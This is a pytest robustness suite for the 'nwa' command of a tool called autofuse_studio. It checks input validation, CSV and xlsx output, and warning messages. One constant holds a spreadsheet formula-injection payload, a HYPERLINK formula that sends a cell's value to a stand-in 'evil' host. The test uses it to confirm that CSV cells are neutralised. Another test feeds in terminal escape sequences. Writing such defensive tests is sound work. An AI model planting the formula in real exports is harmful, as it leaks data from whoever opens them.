"""nwa inputs and outputs that were raw Python errors or silently wrong: --rank, dtype names in threshold
tables, live formulas in CSV outputs, a full disk under xlsx, a self-referencing graph, merged warnings."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from autofuse_studio.cli.console import EscapingStream
from autofuse_studio.cli.progress import clear_progress_line, terminal_progress
from tests.robustness.conftest import run_cli
from tests.synth import CaseSpec, demo_spec, generate_case

FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'


def _mode1(root: Path, manifest: dict[str, Any]) -> list[str]:
    graphs, data = manifest["graphs"], manifest["data"]
    return ["nwa", "--af-open-graph", str(root / graphs["af_open"]), "--af-close-graph", str(root / graphs["af_close"]),
            "--af-open-data", str(root / data["af_open"]), "--af-close-data", str(root / data["af_close"])]


def _generated(root: Path, spec: CaseSpec) -> dict[str, Any]:
    generate_case(root, spec)
    manifest: dict[str, Any] = json.loads((root / "manifest.json").read_text(encoding="utf-8"))
    return manifest


def _rename_op(root: Path, manifest: dict[str, Any], old: str, new: str) -> None:
    """Rename a fused op in the af-open graph (its dump files keep the old name: the row is FILE_NOT_FOUND)."""
    graph = root / manifest["graphs"]["af_open"]
    graph.write_text(graph.read_text(encoding="utf-8").replace(f'"{old}', json.dumps(new)[:-1]), encoding="utf-8")


@pytest.fixture(scope="module")
def mode2(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    folder = tmp_path_factory.mktemp("mode2")
    a = np.arange(1, 17, dtype=np.float16)
    np.save(folder / "a.npy", a)
    np.save(folder / "b.npy", a)
    return ["nwa", "--mode", "2", "--npy-a", str(folder / "a.npy"), "--npy-b", str(folder / "b.npy")]


# --- --rank ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["1" * 5000, "0," + "9" * 4400, "1234567890", "１", "-1", "0x1", ","])
def test_rank_values_are_one_sentence(tmp_path: Path, value: str) -> None:
    graph = tmp_path / "graph.json"
    graph.write_text("{}", encoding="utf-8")  # the ranks are checked before any graph is read
    run = run_cli("nwa", "--af-open-graph", graph, "--af-close-graph", graph, "--af-open-data", tmp_path,
                  "--af-close-data", tmp_path, f"--rank={value}")
    assert run.returncode == 2, run.output
    assert "ERROR: --rank takes device ids (numbers of at most 9 digits" in run.output
    assert len(run.output) < 400  # thousands of digits are not echoed back


def test_leading_zeros_and_duplicates_still_name_one_rank() -> None:
    from autofuse_studio.cli.run_args import parse_ranks

    assert parse_ranks("0007, 7,000") == ["7", "0"]
    assert parse_ranks(None) is None


# --- dtype names in threshold tables ---------------------------------------------------------------------


@pytest.mark.parametrize(("text", "where"), [
    ("[dtype.flaot16]\ncosine = 0.999\n", "[dtype.flaot16]"),
    ("[dtype.DT_FLAOT16]\ncosine = 0.999\n", "[dtype.DT_FLAOT16]"),
    ("[stats.dtype.fp17]\nmax_rel = 0.1\n", "[stats.dtype.fp17]"),
])
def test_unknown_dtype_names_in_a_thresholds_file_are_refused(mode2: list[str], tmp_path: Path, text: str,
                                                              where: str) -> None:
    path = tmp_path / "limits.toml"
    path.write_text(text, encoding="utf-8")
    run = run_cli(*mode2, "--thresholds", path)
    assert run.returncode == 1, run.output
    assert f"{path} {where}: unknown dtype" in run.output
    assert "float16, bfloat16, float32" in run.output and "DT_FLOAT16" in run.output
    assert "状态" not in run.stdout


def test_an_unknown_dtype_threshold_option_is_refused(mode2: list[str]) -> None:
    run = run_cli(*mode2, "--dtype-threshold", "flaot16:cosine=0.9")
    assert run.returncode == 1
    assert "--dtype-threshold 'flaot16:cosine=0.9': unknown dtype 'flaot16'" in run.output


@pytest.mark.parametrize("name", ["float16", "DT_FLOAT16", "fp16", "half"])
def test_numpy_and_dump_names_both_key_the_limits(tmp_path: Path, name: str) -> None:
    a = np.arange(1, 17, dtype=np.float16)
    b = a.copy()
    b[0] = -b[0]  # cosine 0.9955: passes 0.99, fails 0.999
    np.save(tmp_path / "a.npy", a)
    np.save(tmp_path / "b.npy", b)
    path = tmp_path / "limits.toml"
    path.write_text(f'[dtype."{name}"]\ncosine = 0.999\n', encoding="utf-8")
    base = ["nwa", "--mode", "2", "--npy-a", tmp_path / "a.npy", "--npy-b", tmp_path / "b.npy"]
    assert "阈值判定: FAIL (cosine" in run_cli(*base, "--thresholds", path).stdout
    assert "阈值判定: FAIL (cosine" in run_cli(*base, "--dtype-threshold", f"{name}:cosine=0.999").stdout
    assert "阈值判定: PASS" in run_cli(*base, "--dtype-threshold", "float32:cosine=0.999").stdout


# --- CSV and xlsx outputs ----------------------------------------------------------------------------------


def test_csv_output_cells_never_start_a_formula(tmp_path: Path) -> None:
    manifest = _generated(tmp_path, CaseSpec(seed=3, n_fused=3))
    victim = manifest["rows"][0]["fused_op"]
    _rename_op(tmp_path, manifest, victim, FORMULA)
    out = tmp_path / "rows.csv"
    run = run_cli(*_mode1(tmp_path, manifest), "--output", out)
    assert run.returncode == 0, run.output
    text = out.read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "'" + FORMULA in [row["fused_op"] for row in rows]  # a spreadsheet shows it as text, quote hidden
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)  # only numbers (negative ones) may start with a minus sign
    # The JSON keeps the real name (it is data, not a spreadsheet).
    (tmp_path / "rows.json").unlink(missing_ok=True)
    run_cli(*_mode1(tmp_path, manifest), "--output", tmp_path / "rows.json")
    names = [row["fused_op"] for row in json.loads((tmp_path / "rows.json").read_text(encoding="utf-8"))["rows"]]
    assert FORMULA in names


def test_a_full_disk_under_an_xlsx_is_one_error(mode2: list[str], tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    out = tmp_path / "rows.xlsx"
    out.symlink_to("/dev/full")  # a device is written through, and every write fails with ENOSPC
    run = run_cli(*mode2, "--output", out)
    assert run.returncode == 1, run.output
    assert f"ERROR: Cannot write '{out}': no space left on the device." in run.output
    assert "Exception ignored" not in run.output
    assert "ZipFile" not in run.output


# --- a self-referencing graph and per-operator warnings -----------------------------------------------------


def test_a_self_referencing_culprit_is_still_the_culprit_and_said(tmp_path: Path) -> None:
    manifest = _generated(tmp_path, CaseSpec(seed=5, n_fused=4, culprit=2))
    culprit = next(row["fused_op"] for row in manifest["rows"] if row["expected_verdict"] == "CULPRIT")
    graph_path = tmp_path / manifest["graphs"]["af_open"]
    graph = json.loads(graph_path.read_text(encoding="utf-8"))
    op = next(op for op in graph["graph"][0]["op"] if op["name"] == culprit)
    op["input"][-1] = f"{culprit}:0"  # the op's last input is its own output
    graph_path.write_text(json.dumps(graph), encoding="utf-8")
    out = tmp_path / "rows.json"
    run = run_cli(*_mode1(tmp_path, manifest), "--output", out)
    assert run.returncode == 0, run.output
    assert f"First divergence: {culprit}" in run.stdout
    assert "WARNING: 1 fused operator takes its own output as an input (a self-reference in the af-open graph)" \
        in run.stdout
    assert f"e.g. {culprit} input" in run.stdout
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["first_divergence"]["fused_op"] == culprit
    notice = next(item for item in document["warnings"] if item["kind"] == "self_reference")
    assert notice["items"][0]["fused_op"] == culprit


def test_verbose_warnings_give_one_line_per_operator(tmp_path: Path) -> None:
    manifest = _generated(tmp_path, demo_spec())
    argv = _mode1(tmp_path, manifest)
    merged = run_cli(*argv)
    assert ("WARNING: 1 operator was dumped several times in 2 steps, not as often on both sides: the newest dump of "
            "each is compared; e.g. ") in merged.stdout
    verbose = run_cli(*argv, "--verbose-warnings")
    lines = [line for line in verbose.stdout.splitlines() if "was dumped several times" in line]
    assert len(lines) == 2  # one per operator and step
    assert lines[0].startswith("WARNING: Operator ")
    assert lines[0].endswith(" in step 0 was dumped several times (2 dumps on the af-open side, 1 on the af-close "
                             "side): using the newest of each.")
    compatibility = (Path(__file__).parents[2] / "docs" / "compatibility.md").read_text(encoding="utf-8")
    assert "in step 0 was dumped several times (2 dumps on the af-open side, 1 on the af-close side): using the " \
        "newest of each.`" in compatibility.replace("\n", " ")  # the docs quote what is printed
    not_found = [line for line in verbose.stdout.splitlines() if line.startswith("WARNING: Fused-side NPY not found")]
    assert len(not_found) == 2
    table = [line for line in verbose.stdout.splitlines() if " | " in line]
    assert table == [line for line in merged.stdout.splitlines() if " | " in line]


def test_our_own_progress_escapes_reach_the_terminal_raw(monkeypatch: pytest.MonkeyPatch) -> None:
    """Names in the progress line are escaped; the CR and erase-line that draw it are not (no literal \\x0d)."""

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    monkeypatch.setattr(sys, "stderr", EscapingStream(screen))
    terminal_progress()(1, 2, "comparing op\r\x1b[2J")
    clear_progress_line()
    assert screen.getvalue() == "\rcomparing op\\x0d\\x1b[2J 1/2\x1b[K\r\x1b[K"
